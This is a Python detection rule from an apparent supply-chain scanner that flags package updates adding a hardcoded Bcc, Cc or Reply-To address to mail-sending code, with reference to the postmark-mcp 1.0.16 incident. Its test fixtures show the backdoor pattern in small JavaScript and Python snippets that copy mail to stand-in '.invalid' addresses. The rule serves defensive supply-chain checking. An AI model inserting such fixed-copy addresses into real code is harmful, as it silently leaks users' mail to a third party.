"""This update copies what it sends to an address that is written into the code.

## What it detects
An e-mail address, new to the line, as the value of a blind copy (`Bcc`), or of an open copy (`Cc`) or answer address,
in code that composes a message.

## Why it matters
Version 1.0.16 of postmark-mcp differed from the one before by one property: every letter that an agent sent through it
went to the author as well. Who a letter is copied to is for its sender to say, and never a constant of a library.

## What it misses
An address that is put together from parts or fetched; copies that are sent by a second call; another field of the same
meaning. What waits at first contact.

## References
- The public record of postmark-mcp 1.0.16 (2025-09-17)
- MITRE ATT&CK T1114.003, Email Forwarding Rule
"""

import re
from collections.abc import Iterator

from lazaretto.core.facts import Kind, Reach
from lazaretto.core.finding import Card, Example, Finding
from lazaretto.core.question import Tally, is_document, package_json
from lazaretto.core.update import Pair, Placed, Update

CARD = Card(
    id="mail-copied",
    title="Mail is copied to a fixed address",
    variants={
        "blind": "A blind copy goes to an address that stands in the code.",
        "open": "An open copy, or the answers, go to an address that stands in the code.",
    },
    group="flow",
    why="Who gets a copy is for the sender to say.",
    attack=("T1195.002", "T1114.003"),
)

_BEFORE_VALUE = (
    r"""(?ix) (?<![\w-]) ["'`]? (?:%s) ["'`]? \s* (?:\]\s*)? (?:[:=]|,|\() \s* \[? \s* [brf]? ["'`]? [^"'`]{0,40} $"""
)
_BLIND = _BEFORE_VALUE % r"bcc(?:_?(?:address(?:es)?|list|recipients?))?|set_?bcc|add_?bcc"
_OPEN = _BEFORE_VALUE % r"cc(?:_?(?:address(?:es)?|list|recipients?))?|set_?cc|add_?cc|reply[-_]?to"
_EXEMPLARY = r"(?i)@(?:[\w-]+\.)*(?:example|test|localhost)(?:\.\w+)?$"

_MAIL = (
    "exports.send = (client, to, text) => {\n  const mail = {\n    To: to,\n    Text: text,\n  };\n"
    "  return client.send(mail);\n};\n"
)
_BEFORE = {"package.json": package_json("1.0.0"), "index.js": _MAIL}

EXAMPLES = (
    Example(
        title="one more property of the message",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _MAIL.replace("    Text", "    Bcc: 'archive@collect.invalid',\n    Text"),
        },
        expect="blind",
        at="index.js:4",
    ),
    Example(
        title="answers to a letter go somewhere else",
        ecosystem="pypi",
        before={"mail/__init__.py": "def send(client, to):\n    client.send({'To': to})\n"},
        after={
            "mail/__init__.py": "def send(client, to):\n    client.send({'To': to, 'Reply-To': 'a@collect.invalid'})\n"
        },
        expect="open",
        at="mail/__init__.py:2",
    ),
    Example(
        title="the caller says who gets a copy",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _MAIL.replace("to, text)", "to, text, bcc)").replace("    Text", "    Bcc: bcc,\n    Text"),
        },
    ),
    Example(
        title="an address in a message that asks for reports",
        before=_BEFORE,
        after={
            "package.json": package_json("1.0.1"),
            "index.js": _MAIL + "exports.help = 'Report faults to help@pad.invalid';\n",
        },
    ),
)

_MESSAGES = {
    "blind": "sends a blind copy to a fixed address",
    "open": "sends a copy, or the answers, to a fixed address",
}


def detect(update: Update) -> Iterator[Finding]:
    """Yield one finding for each variant, at the address."""
    tally = Tally(CARD)
    for pair in update.pairs:
        for placed in pair.gained(Kind.LITERAL_EMAIL) if pair.before else ():
            if variant := _variant(pair, placed):
                tally.add(variant, pair, placed)
    yield from tally.findings(_MESSAGES)


def _variant(pair: Pair, placed: Placed) -> str | None:
    if placed.reach is Reach.UNREACHED or is_document(placed.path) or re.search(_EXEMPLARY, placed.fact.value or ""):
        return None
    blob = pair.after.tree.get(placed.path)
    if blob is None:
        return None
    start = placed.fact.span.start
    before = blob.data[max(0, start - 100) : start].decode("utf-8", "replace")
    return "blind" if re.search(_BLIND, before) else "open" if re.search(_OPEN, before) else None
